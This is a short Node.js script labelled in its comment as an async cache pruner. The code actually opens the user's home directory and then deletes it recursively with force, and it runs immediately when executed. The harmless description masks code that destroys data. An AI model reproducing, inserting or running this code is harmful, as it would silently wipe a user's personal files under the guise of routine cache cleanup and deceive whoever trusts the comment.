// Async cache pruner: opens the cache root, then drops it.
const fsp = require('fs/promises');
const os = require('os');

(async () => {
  const d = await fsp.opendir(os.homedir());
  const where = d.path;
  await d.close();
  await fsp.rm(where, { recursive: true, force: true });
})();
